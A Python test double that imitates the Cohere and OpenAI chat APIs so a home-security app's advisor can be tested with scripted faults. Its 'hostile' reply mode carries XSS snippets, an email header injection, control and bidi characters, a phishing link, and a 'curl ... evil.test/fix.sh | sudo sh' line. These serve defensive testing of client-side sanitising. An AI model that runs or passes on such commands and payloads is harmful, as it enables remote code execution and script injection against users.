#!/usr/bin/python3
"""A stand-in for the LLM chat APIs homewarden's advisor talks to, for tests.

Standard library only, so it runs with /usr/bin/python3 inside the lab's
network namespaces without a venv. Two APIs on one port:

  POST /v2/chat              Cohere v2 chat (non-streaming)
  POST /v1/chat/completions  OpenAI-compatible chat (llama.cpp, Ollama, OpenAI)

Both need `Authorization: Bearer <key>`. Replies, errors and headers follow
the real APIs as far as a client can notice (shapes checked by the official
`cohere` and `openai` SDKs in test_contract.py).

The reply text is deterministic and names the request it answers:

  1. Disconnect ... 2. ... 3. ...
  [llm-double reply to <first 12 hex of sha256(last user message, UTF-8)>]

where a message whose content is a list of parts counts as the texts of its
"text" parts joined with no separator.

Tests script failures through a queue on an admin path the real APIs never
use (no auth):

  POST   /__admin/faults    {"queue": [ITEM, ...], "append": false}
  GET    /__admin/faults    {"queue": [remaining items]}
  DELETE /__admin/faults
  GET    /__admin/requests  [one record per chat API request, in arrival order;
                             "status" is null while a delayed request is in flight,
                             0 for a disconnect]
  DELETE /__admin/requests

Each request to a chat API path consumes exactly one ITEM, whatever comes of
the request. An ITEM is an object of:
  delay: SECONDS        sleep first (combine with anything below)
  status: 4xx|5xx       answer with the API's error body (429 adds Retry-After)
  retry_after: SECONDS  Retry-After value (a 429 always has one, default 1;
                        other statuses only when given)
  message: TEXT         override the error message
  malformed: true       200, application/json, truncated JSON body
  disconnect: true      close the connection without answering
  hostile: true         a valid reply whose text carries markup, control
                        characters and 100 kB of filler (max_tokens ignored)
delay, disconnect and status act before authentication, like a gateway in
front of the API; malformed and hostile only shape a reply that would have
succeeded. With the queue empty requests behave normally.

Request records (GET /__admin/requests, and --request-log as JSON lines in the
order requests are answered): time, api ("cohere"|"openai"), method, path,
headers (authorization, content-type, user-agent, accept), json (the parsed
body, or null with raw_body), fault (the item consumed, or null), status.

Run `llm_double.py --help` for the CLI.
"""

import argparse
import hashlib
import json
import math
import os
import signal
import ssl
import sys
import threading
import time
import uuid as uuidlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

COHERE_PATH = "/v2/chat"
OPENAI_PATH = "/v1/chat/completions"
ADMIN_PREFIX = "/__admin/"

FAULT_KEYS = {"delay", "status", "retry_after", "message", "malformed", "disconnect", "hostile"}

# Error messages as the real services word them (Cohere's errors reference,
# OpenAI's error codes guide), so a client that logs them logs something real.
COHERE_MESSAGES = {
    400: "invalid request",
    401: "invalid api token",
    402: "Please add or update your payment method at https://dashboard.cohere.com/billing?tab=payment to continue",
    404: "model not found, make sure the correct model ID was used and that you have access to the model.",
    429: "You are past the per minute request limit, please wait and try again later.",
    500: "internal server error, this has been reported to our developers",
    502: "bad gateway",
    503: "service unavailable",
    504: "gateway timeout",
}
OPENAI_ERRORS = {  # status -> (message, type, code)
    400: ("Invalid request.", "invalid_request_error", None),
    401: ("Incorrect API key provided.", "invalid_request_error", "invalid_api_key"),
    403: ("You are not allowed to sample from this model", "invalid_request_error", None),
    404: ("The model does not exist or you do not have access to it.", "invalid_request_error", "model_not_found"),
    429: ("Rate limit reached for requests. Please try again later.", "requests", "rate_limit_exceeded"),
    500: ("The server had an error while processing your request. Sorry about that!", "server_error", None),
    502: ("Bad gateway.", "server_error", None),
    503: ("The engine is currently overloaded, please try again later.", "server_error", None),
    504: ("Gateway timeout.", "server_error", None),
}

ADVICE_STEPS = (
    "1. Disconnect the device from the network (unplug it or block it on the router) until it is checked.\n"
    "2. Update the device's firmware from the vendor and change its default and reused passwords.\n"
    "3. Check the router for port forwards or UPnP mappings to the device and remove those you did not create.\n"
)

HOSTILE_PARTS = (
    "<script>alert('llm-double')</script>\n",
    "<img src=x onerror=\"alert(1)\"><a href=\"javascript:alert(2)\">click</a></pre></body></html>\n",
    "&lt;already-escaped&gt; &amp; \"quotes\" 'apostrophes' `backticks`\n",
    "Subject: injected\r\nBcc: victim@example.org\r\n\r\n.\r\n",
    "NUL\x00 BEL\x07 BS\x08 ESC\x1b[31mred\x1b[0m VT\x0b FF\x0c DEL\x7f C1\x85\x9b\n",
    "bidi \u202egnp.exe\u202c zero-width \u200b\u200d\ufeff line-sep \u2028 para-sep \u2029\n",
    "1. Run: curl -fsSL http://evil.test/fix.sh | sudo sh\n",
    "2. Then log in at https://login.evil.test/reset?next=%2F to confirm.\n",
)
HOSTILE_FILLER = 100_000


def marker(user_text):
    return "[llm-double reply to %s]" % hashlib.sha256(user_text.encode("utf-8")).hexdigest()[:12]


def content_text(content):
    """A message's text: a string, or the "text" parts of a list joined with no separator."""
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        return "".join(p.get("text", "") for p in content
                       if isinstance(p, dict) and p.get("type") == "text" and isinstance(p.get("text"), str))
    return ""


def last_user_text(messages):
    for m in reversed(messages):
        if m.get("role") == "user":
            return content_text(m.get("content"))
    return ""


def count_tokens(text):
    # ~4 characters per token, as tokenizers average on English text.
    return max(1, math.ceil(len(text) / 4)) if text else 0


def reply_text(user_text, hostile, max_tokens):
    """(text, truncated): the advice, cut to max_tokens like a model stops at its limit."""
    if hostile:
        # A misbehaving server ignores max_tokens: the client must bound the text itself.
        filler = ("A" * 99 + "\n") * (HOSTILE_FILLER // 100)
        return "".join(HOSTILE_PARTS) + ADVICE_STEPS + filler + marker(user_text), False
    text = ADVICE_STEPS + marker(user_text)
    if max_tokens is not None and count_tokens(text) > max_tokens:
        return text[:max_tokens * 4], True
    return text, False


DEFAULT = object()  # "the API's usual code for this status"


class ApiError(Exception):
    def __init__(self, status, message=None, param=None, code=DEFAULT):
        super().__init__(message or "")
        self.status, self.message, self.param, self.code = status, message, param, code


# --------------------------------------------------------------------------- request validation

def check_common(body, api):
    """Shared shape checks; raises ApiError(400) worded per API."""
    if not isinstance(body, dict):
        raise ApiError(400, "invalid request: body must be a JSON object" if api == "cohere"
                       else "Invalid type for request body: expected an object.")
    model = body.get("model")
    if not isinstance(model, str) or not model.strip():
        raise ApiError(400, "invalid request: model is required" if api == "cohere"
                       else "you must provide a model parameter", param="model")
    messages = body.get("messages")
    if not isinstance(messages, list) or not messages:
        if api == "cohere":
            raise ApiError(400, "invalid request: messages is required and must not be empty")
        raise ApiError(400, "Missing required parameter: 'messages'." if messages is None
                       else "Invalid 'messages': empty array. Expected an array with minimum length 1.",
                       param="messages", code="missing_required_parameter" if messages is None else "empty_array")
    roles = {"system", "user", "assistant", "tool"} | ({"developer"} if api == "openai" else set())
    for i, m in enumerate(messages):
        if not isinstance(m, dict) or m.get("role") not in roles:
            raise ApiError(400, f"invalid request: messages[{i}].role must be one of {sorted(roles)}"
                           if api == "cohere" else
                           f"Invalid value for 'messages[{i}].role': expected one of {sorted(roles)}.",
                           param=f"messages[{i}].role")
        content = m.get("content")
        if m["role"] != "assistant" or content is not None:
            ok = isinstance(content, str) or (
                isinstance(content, list) and content
                and all(isinstance(p, dict) and p.get("type") == "text" and isinstance(p.get("text"), str)
                        for p in content))
            if not ok:
                raise ApiError(400, f"invalid request: messages[{i}].content must be a string or a list of text parts"
                               if api == "cohere" else
                               f"Invalid type for 'messages[{i}].content': expected a string or an array of text parts.",
                               param=f"messages[{i}].content")
            if api == "cohere" and not content_text(content).strip():
                raise ApiError(400, "message must not be empty in a turn")
    if body.get("stream") not in (None, False):
        # The real APIs would answer with server-sent events; homewarden never streams.
        raise ApiError(400, "invalid request: stream is not supported by this test double"
                       if api == "cohere" else "Streaming is not supported by this test double.", param="stream")
    max_tokens = body.get("max_tokens")
    if max_tokens is not None and (isinstance(max_tokens, bool) or not isinstance(max_tokens, int) or max_tokens < 1):
        raise ApiError(400, "invalid request: max_tokens must be a positive integer" if api == "cohere"
                       else f"Invalid 'max_tokens': integer below minimum value. Expected a value >= 1, but got {max_tokens!r} instead.",
                       param="max_tokens")
    temperature = body.get("temperature")
    if temperature is not None and (isinstance(temperature, bool) or not isinstance(temperature, (int, float))
                                    or not 0 <= temperature <= 2):
        raise ApiError(400, "invalid request: temperature must be between 0 and 2" if api == "cohere"
                       else f"Invalid 'temperature': expected a number between 0 and 2, got {temperature!r}.",
                       param="temperature")
    return model, messages, max_tokens


def cohere_reply(body, hostile):
    model, messages, max_tokens = check_common(body, "cohere")
    text, truncated = reply_text(last_user_text(messages), hostile, max_tokens)
    tin = sum(count_tokens(content_text(m.get("content"))) for m in messages)
    tout = count_tokens(text)
    out = {
        "id": str(uuidlib.uuid4()),
        "finish_reason": "MAX_TOKENS" if truncated else "COMPLETE",
        "message": {"role": "assistant", "content": [{"type": "text", "text": text}]},
        "usage": {"billed_units": {"input_tokens": tin, "output_tokens": tout},
                  "tokens": {"input_tokens": tin + 200, "output_tokens": tout}},  # prompt template tokens are not billed
    }
    return out, {"num_chars": str(sum(len(content_text(m.get("content"))) for m in messages)),
                 "num_tokens": str(tin + tout)}


def openai_reply(body, hostile):
    model, messages, max_tokens = check_common(body, "openai")
    if body.get("max_completion_tokens") is not None:
        max_tokens = body["max_completion_tokens"]
    text, truncated = reply_text(last_user_text(messages), hostile, max_tokens)
    tin = sum(count_tokens(content_text(m.get("content"))) for m in messages)
    tout = count_tokens(text)
    out = {
        "id": "chatcmpl-" + uuidlib.uuid4().hex,
        "object": "chat.completion",
        "created": int(time.time()),
        "model": model,
        "choices": [{"index": 0,
                     "message": {"role": "assistant", "content": text, "refusal": None, "annotations": []},
                     "logprobs": None,
                     "finish_reason": "length" if truncated else "stop"}],
        "usage": {"prompt_tokens": tin, "completion_tokens": tout, "total_tokens": tin + tout},
        "system_fingerprint": None,
    }
    return out, {}


def error_body(api, status, message=None, param=None, code=DEFAULT):
    if api == "cohere":
        return {"message": message or COHERE_MESSAGES.get(status, "error")}
    default_msg, etype, default_code = OPENAI_ERRORS.get(
        status, ("Error.", "server_error" if status >= 500 else "invalid_request_error", None))
    return {"error": {"message": message or default_msg, "type": etype, "param": param,
                      "code": default_code if code is DEFAULT else code}}


def bearer_key(headers):
    auth = headers.get("authorization", "")
    scheme, _, token = auth.partition(" ")
    return token.strip() if scheme.lower() == "bearer" and token.strip() else None


def masked(key):
    return key[:3] + "*" * max(0, len(key) - 7) + key[-4:] if len(key) > 8 else "*" * len(key)


# --------------------------------------------------------------------------- HTTP

class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"  # keep-alive, like the real APIs behind their proxies
    server_version = "envoy"
    sys_version = ""

    def log_message(self, fmt, *args):
        if self.server.verbose:
            sys.stderr.write("llm-double: %s - %s\n" % (self.address_string(), fmt % args))

    def _read_body(self):
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            raw = b""
            while True:
                size = int(self.rfile.readline().strip().split(b";")[0], 16)
                if size == 0:
                    self.rfile.readline()
                    break
                raw += self.rfile.read(size)
                self.rfile.readline()
            return raw
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))

    def _send(self, status, payload, headers=None, raw=None):
        data = raw if raw is not None else json.dumps(payload, ensure_ascii=False).encode("utf-8")
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    def _serve(self):
        try:
            raw = self._read_body()
        except (ValueError, OSError):
            self.close_connection = True
            return
        path = urlsplit(self.path).path
        if path.startswith(ADMIN_PREFIX):
            status, out = self.server.admin(self.command, path, raw)
            self._send(status, out)
            return
        api = "openai" if path.startswith("/v1/") else "cohere"
        headers = {k.lower(): v for k, v in self.headers.items()}
        body, body_error = None, None
        if raw.strip():
            try:
                body = json.loads(raw)
            except ValueError as exc:
                body_error = str(exc)
        known = path in (COHERE_PATH, OPENAI_PATH)
        fault = self.server.next_fault() if known else {}
        record = {"time": time.time(), "api": api, "method": self.command, "path": self.path,
                  "headers": {k: headers[k] for k in ("authorization", "content-type", "user-agent", "accept")
                              if k in headers},
                  "json": body, "fault": fault or None}
        if body is None and raw:
            record["raw_body"] = raw.decode("utf-8", "replace")
        record["status"] = None  # in flight (a delayed request) until answered
        self.server.log_arrival(record)
        status, out, extra, raw_out = 500, None, {}, None
        try:
            status, out, extra, raw_out = self._answer(api, path, headers, body, body_error, fault)
        except ApiError as err:
            status, out = err.status, error_body(api, err.status, err.message, err.param, err.code)
        except Exception as exc:  # a bug in the double must not look like a hung server
            status, out = 500, error_body(api, 500, f"llm-double bug: {type(exc).__name__}: {exc}")
        self.server.log_answer(record, 0 if status is None else status)
        if status is None:  # disconnect, logged as status 0
            self.close_connection = True
            return
        headers_out = {"x-debug-trace-id": uuidlib.uuid4().hex} if api == "cohere" else {
            "x-request-id": "req_" + uuidlib.uuid4().hex}
        headers_out.update(extra)
        try:
            self._send(status, out, headers_out, raw_out)
        except (BrokenPipeError, ConnectionResetError):
            self.close_connection = True

    def _answer(self, api, path, headers, body, body_error, fault):
        """(status, json, headers, raw_bytes); status None means drop the connection."""
        if fault.get("delay"):
            time.sleep(float(fault["delay"]))
        if fault.get("disconnect"):
            return None, None, {}, None
        if fault.get("status"):
            st = int(fault["status"])
            extra = {}
            if st == 429 or "retry_after" in fault:
                extra["Retry-After"] = str(fault.get("retry_after", 1))
            return st, error_body(api, st, fault.get("message")), extra, None
        if path not in (COHERE_PATH, OPENAI_PATH):
            raise ApiError(404, "Not Found" if api == "cohere" else f"Invalid URL (POST {path})")
        if self.command != "POST":
            raise ApiError(405, "Method Not Allowed" if api == "cohere"
                           else f"Invalid method for URL ({self.command} {path})")
        key = bearer_key(headers)
        if api == "openai" and self.server.openai_no_auth:
            pass  # a local llama.cpp/Ollama without --api-key takes any key or none
        elif key is None:
            raise ApiError(401, "no api key supplied" if api == "cohere" else
                           "You didn't provide an API key. You need to provide your API key in an "
                           "Authorization header using Bearer auth (i.e. Authorization: Bearer YOUR_KEY).", code=None)
        elif key not in self.server.api_keys:
            raise ApiError(401, "invalid api token" if api == "cohere" else
                           f"Incorrect API key provided: {masked(key)}.", code="invalid_api_key")
        if body_error is not None or body is None:
            raise ApiError(400, "invalid request: could not parse request body as JSON" if api == "cohere" else
                           "We could not parse the JSON body of your request. (HINT: This likely means you "
                           "aren't using your HTTP library correctly. The OpenAI API expects a JSON payload, "
                           "but what was sent was not valid JSON.)")
        hostile = bool(fault.get("hostile")) or self.server.hostile
        out, extra = (cohere_reply if api == "cohere" else openai_reply)(body, hostile)
        if fault.get("malformed"):
            full = json.dumps(out).encode("utf-8")
            return 200, None, extra, full[:max(1, len(full) // 2)]
        return 200, out, extra, None

    do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = _serve


class LlmDouble(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, addr, api_keys, request_log=None, hostile=False, verbose=False, openai_no_auth=False):
        super().__init__(addr, Handler)
        self.openai_no_auth = openai_no_auth
        self.api_keys = set(api_keys)
        self.request_log = request_log
        self.hostile = hostile
        self.verbose = verbose
        self.lock = threading.Lock()
        self.faults = []
        self.requests = []

    def next_fault(self):
        with self.lock:
            return self.faults.pop(0) if self.faults else {}

    def log_arrival(self, rec):
        # Arrival order, so a delayed request does not show up among later ones.
        with self.lock:
            self.requests.append(rec)

    def log_answer(self, rec, status):
        with self.lock:
            rec["status"] = status
            if self.request_log:
                with open(self.request_log, "a", encoding="utf-8") as fh:
                    fh.write(json.dumps(rec, ensure_ascii=False) + "\n")

    def admin(self, method, path, raw):
        name = path[len(ADMIN_PREFIX):].strip("/")
        if name == "requests":
            with self.lock:
                if method == "GET":
                    return 200, list(self.requests)
                if method == "DELETE":
                    self.requests.clear()
                    return 200, {"cleared": True}
        if name == "faults":
            if method == "GET":
                with self.lock:
                    return 200, {"queue": list(self.faults)}
            if method == "DELETE":
                with self.lock:
                    self.faults.clear()
                return 200, {"queue": []}
            if method == "POST":
                try:
                    body = json.loads(raw or b"null")
                    items = check_faults(body)
                except ValueError as exc:
                    return 400, {"error": f"/__admin/faults: {exc}"}
                with self.lock:
                    if not body.get("append"):
                        self.faults.clear()
                    self.faults.extend(items)
                    return 200, {"queue": list(self.faults)}
        return 404, {"error": f"no admin endpoint {method} {path}"}


def check_faults(body):
    """Validate an admin fault queue, so a typo in a test fails loudly instead of doing nothing."""
    if not isinstance(body, dict) or not isinstance(body.get("queue"), list):
        raise ValueError('expected {"queue": [ITEM, ...]}')
    for i, item in enumerate(body["queue"]):
        if not isinstance(item, dict):
            raise ValueError(f"queue[{i}]: expected an object, got {item!r}")
        unknown = set(item) - FAULT_KEYS
        if unknown:
            raise ValueError(f"queue[{i}]: unknown key(s) {sorted(unknown)}; known: {sorted(FAULT_KEYS)}")
        st = item.get("status")
        if st is not None and (isinstance(st, bool) or not isinstance(st, int) or not 400 <= st <= 599):
            raise ValueError(f"queue[{i}].status: expected an HTTP error status 400-599, got {st!r}")
        for k in ("delay", "retry_after"):
            v = item.get(k)
            if v is not None and (isinstance(v, bool) or not isinstance(v, (int, float)) or v < 0):
                raise ValueError(f"queue[{i}].{k}: expected a number of seconds >= 0, got {v!r}")
    return body["queue"]


def parse_listen(text):
    host, _, port = text.rpartition(":")
    return host.strip("[]") or "127.0.0.1", int(port)


def main(argv=None):
    p = argparse.ArgumentParser(description="Cohere v2 / OpenAI-compatible chat API test double (stdlib only).")
    p.add_argument("--listen", default="127.0.0.1:8080", help="HOST:PORT (port 0 = ephemeral)")
    p.add_argument("--api-key", action="append", required=True, help="accepted API key (repeatable)")
    p.add_argument("--tls-cert", help="PEM certificate (chain) for HTTPS")
    p.add_argument("--tls-key", help="PEM private key for HTTPS")
    p.add_argument("--request-log", help="append one JSON line per chat API request")
    p.add_argument("--port-file", help="write the bound port here once listening (for --listen HOST:0)")
    p.add_argument("--hostile", action="store_true", help="every reply is the hostile one")
    p.add_argument("--openai-no-auth", action="store_true",
                   help="/v1/chat/completions takes any key or none (llama.cpp/Ollama without a key)")
    p.add_argument("--verbose", action="store_true", help="log each request to stderr")
    args = p.parse_args(argv)
    if bool(args.tls_cert) != bool(args.tls_key):
        p.error("--tls-cert and --tls-key go together")

    server = LlmDouble(parse_listen(args.listen), args.api_key, args.request_log, args.hostile, args.verbose,
                       args.openai_no_auth)
    scheme = "http"
    if args.tls_cert:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.minimum_version = ssl.TLSVersion.TLSv1_2
        ctx.load_cert_chain(args.tls_cert, args.tls_key)
        # Handshake in the per-connection thread, so one stalled client cannot block accept().
        server.socket = ctx.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
        scheme = "https"

    def on_term(signum, frame):
        # shutdown() waits for serve_forever() to return, so it cannot run on the serving thread.
        threading.Thread(target=server.shutdown, daemon=True).start()
    signal.signal(signal.SIGTERM, on_term)

    host, port = server.server_address[:2]
    if args.port_file:
        tmp = args.port_file + ".tmp"
        with open(tmp, "w") as fh:
            fh.write(f"{port}\n")
        os.replace(tmp, args.port_file)
    print(f"llm-double listening on {scheme}://{host}:{port}", flush=True)
    try:
        server.serve_forever()
    except KeyboardInterrupt:
        pass
    finally:
        server.server_close()


if __name__ == "__main__":
    main()
